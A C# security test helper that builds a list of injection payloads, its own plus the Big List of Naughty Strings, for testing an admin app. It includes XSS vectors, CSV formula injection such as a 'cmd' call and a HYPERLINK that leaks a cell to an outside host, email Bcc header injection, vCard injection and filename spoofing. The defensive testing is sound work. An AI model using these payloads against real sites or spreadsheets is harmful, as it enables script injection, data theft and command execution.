using System.Text.Json;
using AgencyAdmin.Tests.Support;

namespace AgencyAdmin.Tests.Security.Attacks;

/// <summary>
/// The Big List of Naughty Strings (Max Woolf, MIT: see the licence beside it), and what would hurt this app in
/// particular.
/// </summary>
internal static class NaughtyStrings
{
    /// <summary>What a payload calls when it runs. Nothing of ours has that name.</summary>
    public const string Mark = "__owned";

    private static readonly string[] s_own =
    [
        $"<script>{Mark}=1</script>", $"\"><script>{Mark}=1</script>", $"<img src=x onerror={Mark}=1>",
        $"\"><img src=x onerror={Mark}=1>",
        $"'><svg onload={Mark}=1>", $"</title><script>{Mark}=1</script>", $"</textarea><script>{Mark}=1</script>",
        $"</style><script>{Mark}=1</script>", $"--><script>{Mark}=1</script>", $"]]><script>{Mark}=1</script>",
        $"<template shadowrootmode=open><script>{Mark}=1</script></template>",
        $"<iframe srcdoc=\"<script>parent.{Mark}=1</script>\">",
        $"<math><mi xlink:href=\"javascript:{Mark}=1\">x", $"<a href=\"javascript:{Mark}=1\">x</a>",
        $"javascript:{Mark}=1//",
        $"JaVaScRiPt:{Mark}=1", $"java\u0001script:{Mark}=1", $"data:text/html,<script>{Mark}=1</script>",
        $"vbscript:{Mark}=1",
        $"\" autofocus onfocus={Mark}=1 x=\"", $"' style='animation-name:x' onanimationstart={Mark}=1 '",
        $"`onmouseover={Mark}=1`",
        "<base href=https://elsewhere.example/>", "<meta http-equiv=refresh content=0;url=https://elsewhere.example/>",
        "<link rel=stylesheet href=https://elsewhere.example/x.css>",
        "<form action=https://elsewhere.example><input name=password>",
        "<!--Blazor:{\"type\":\"server\",\"sequence\":0,\"descriptor\":\"x\"}-->", "<!--!-->",
        "{{constructor.constructor('__owned=1')()}}",
        "${__owned=1}", "\u2028__owned=1\u2029", "%3Cscript%3E__owned=1%3C/script%3E",
        "&lt;script&gt;__owned=1&lt;/script&gt;",
        "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"https://elsewhere.example?x=\"&A1,\"Open\")",
        "=cmd|' /C calc'!A0", "\u00A0=1+1",
        "Eve\r\nBcc: everybody@elsewhere.example", "Eve\nTEL:+19005550100", "END:VCARD\r\nBEGIN:VCARD",
        "\u202Eexe.tfihs", "\u0000nul",
    ];

    /// <summary>All of them; those that could run come first, so that lists show them on their first screen.</summary>
    public static IReadOnlyList<string> All { get; } = Read();

    /// <summary>As much of it as a field takes, without what parts the columns of a feed.</summary>
    public static string Cut(string text, int limit)
    {
        var one = text.ReplaceLineEndings(" ").Replace('\t', ' ').Replace('\0', ' ');
        return one.Length <= limit ? one : char.IsHighSurrogate(one[limit - 1]) ? one[..(limit - 1)] : one[..limit];
    }

    private static string[] Read()
    {
        var list = JsonSerializer.Deserialize<string[]>(
            File.ReadAllText(Repository.File("AgencyAdmin.Tests", "Security", "Attacks", "NaughtyStrings", "blns.json")))!;
        return
        [
            .. s_own.Concat(list.Where(CouldRun)),
            .. list.Where(text => !CouldRun(text)),
        ];
    }

    private static bool CouldRun(string text) => text.Contains('<', StringComparison.Ordinal)
        || text.Contains("script:", StringComparison.OrdinalIgnoreCase);
}
